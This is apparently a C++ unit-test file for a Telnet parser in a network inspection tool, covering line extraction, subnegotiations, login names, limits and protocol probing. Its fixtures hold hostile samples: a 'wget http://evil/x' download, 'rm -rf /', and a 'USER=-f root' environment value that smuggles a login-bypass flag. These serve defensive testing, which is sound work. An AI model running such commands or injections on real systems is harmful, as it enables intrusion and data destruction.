// Telnet: what is left of a line when commands are taken out, subnegotiations, who logs in, limits, recognition.
#include "app/telnet/telnet.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "app/corpus.h"
#include "sekisho/app/app_event_list.h"
#include "sekisho/app/limits.h"

namespace sekisho::app {
namespace {

using namespace std::string_literals;
using namespace std::string_view_literals;
using sekisho::testing::ParserRun;
using sekisho::testing::RecordedFrame;
using sekisho::testing::RecordingSink;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

/// All values of a field in the order of their transactions.
std::vector<std::string> told(const RecordingSink& sink, Field field) {
    std::vector<std::string> all;
    for (const auto& tx : sink.transactions)
        if (const auto found = tx.fields.find(field); found != tx.fields.end())
            all.insert(all.end(), found->second.begin(), found->second.end());
    return all;
}
std::vector<AppEvent> events(const RecordingSink& sink) {
    std::vector<AppEvent> all;
    for (const auto& tx : sink.transactions) all.insert(all.end(), tx.events.begin(), tx.events.end());
    return all;
}

TEST(Telnet, LinesOfALogin) {
    const auto sink = run_to_end(kTelnet, "telnet/login");
    EXPECT_THAT(told(sink, Field::telnet_line),
                ElementsAre("Debian GNU/Linux 12", "box login: ", "root", "root", "Password: ", "hunter2", "Last login: ", "Sat", "$ ",
                            "id", "uid=0(root)", "$ "));
    EXPECT_THAT(told(sink, Field::detail), ElementsAre("terminal_type=xterm", "user=guest", "login=root"));
    EXPECT_THAT(events(sink), IsEmpty());
}

TEST(Telnet, CommandsWithinAWordHideNothing) {
    const auto sink = run_to_end(kTelnet, "telnet/hidden");
    EXPECT_THAT(told(sink, Field::telnet_line), ElementsAre("$ ", "wget http://evil/x\xff", "rm -rf /", "cat x"));
}

TEST(Telnet, ANameIsTakenWhereItWasAskedFor) {
    EXPECT_THAT(told(run_to_end(kTelnet, "telnet/plain"), Field::detail), ElementsAre("login=admin"));
}

TEST(Telnet, EnvironmentsName) {
    // A mark behind ESC is part of the name; a USERVAR called USER and one with ESC in its name are read as servers do.
    const auto sink = run_to_end(kTelnet, "telnet/environment");
    EXPECT_THAT(told(sink, Field::detail), ElementsAre("user=-f root"));
    EXPECT_THAT(told(sink, Field::telnet_subnegotiation),
                ElementsAre("\x27\0\0US\2\1ER\1no\3USER\0USER\1-f root\0X"s, "\x18", ""));
}

TEST(Telnet, WhatIsTooLongOrCutOffIsAnEvent) {
    const auto sink = run_to_end(kTelnet, "telnet/odd");
    EXPECT_THAT(events(sink), ElementsAre(AppEvent::telnet_subnegotiation_not_ended, AppEvent::telnet_subnegotiation_too_long,
                                          AppEvent::telnet_line_too_long, AppEvent::telnet_subnegotiation_not_ended));
    const auto lines = told(sink, Field::telnet_line);
    EXPECT_THAT(lines, ElementsAre("text", std::string(kTelnetLineMax, 'x'), std::string(1100 - kTelnetLineMax, 'x')));
    const auto subnegotiations = told(sink, Field::telnet_subnegotiation);
    ASSERT_EQ(subnegotiations.size(), 3u);
    EXPECT_EQ(subnegotiations[0], "\x18\0xt\xff"s);
    EXPECT_EQ(subnegotiations[1].size(), kTelnetSubnegotiationMax);
}

TEST(Telnet, FramesAreCommandsAndData) {
    for (const std::size_t piece : {1u, 2u, 100u}) {
        RecordingSink sink;
        ParserRun run(kTelnet, sink);
        const auto all = "\xff\xfb\x01\xff\xfa\x18\1\xff\xf0" "a\nlogin: x\xff\xf1"s;
        for (std::size_t at = 0; at < all.size(); at += piece) run.feed(kDown, all.substr(at, piece));
        std::vector<Field> kinds, ended;
        for (const RecordedFrame& frame : sink.frames)
            if (frame.field != Field::frame_telnet_pdu) kinds.push_back(frame.field);
        for (const RecordedFrame& frame : sink.frames_ended)
            if (frame.field != Field::frame_telnet_pdu) ended.push_back(frame.field);
        constexpr auto kCtl = Field::frame_telnet_ctl, kData = Field::frame_telnet_data;
        EXPECT_THAT(kinds, ElementsAre(kCtl, kCtl, kData, kData, kData, kCtl)) << "pieces of " << piece;
        EXPECT_EQ(ended, kinds) << "pieces of " << piece;
        EXPECT_EQ(sink.frames.size(), 2 * kinds.size());
    }
}

TEST(Telnet, AGapEndsTheLine) {
    RecordingSink sink;
    ParserRun run(kTelnet, sink);
    run.feed(kUp, "\xff\xfa\x18\0xt"s);
    EXPECT_TRUE(run.gap(kUp, 100));
    run.feed(kUp, "half");
    EXPECT_TRUE(run.gap(kUp, 1));
    run.feed(kUp, "whole\r\n");
    EXPECT_THAT(told(sink, Field::telnet_line), ElementsAre("half", "whole"));
}

TEST(Telnet, IsRecognisedByItsNegotiation) {
    const auto probe = [](std::string_view up, std::string_view down, std::uint16_t port) {
        return kTelnet.probe({as_bytes(up), as_bytes(down), port});
    };
    EXPECT_EQ(probe("", "\xff\xfd\x18", 2323), Probe::yes);
    EXPECT_EQ(probe("\xff\xf1\xff\xf1\xff\xfb\x27", "", 2323), Probe::yes);
    EXPECT_EQ(probe("\xff\xfd", "", 2323), Probe::maybe);
    EXPECT_EQ(probe("\xff\xfe\x41\0"sv, "", 2323), Probe::no) << "UTF-16";
    EXPECT_EQ(probe("\xff\xfe\x41\0"sv, "", 23), Probe::yes);
    EXPECT_EQ(probe("", "router\r\nlogin: ", 23), Probe::yes);
    EXPECT_EQ(probe("", "router\r\nlogin: ", 4000), Probe::no) << "a port is no more than a hint, a word no more than a word";
    EXPECT_EQ(probe("GET / HTTP/1.1\r\n", "", 23), Probe::no);
    EXPECT_EQ(probe("\xff\xf1\xff\xff\xfd\x01", "", 23), Probe::no);
}

}  // namespace
}  // namespace sekisho::app
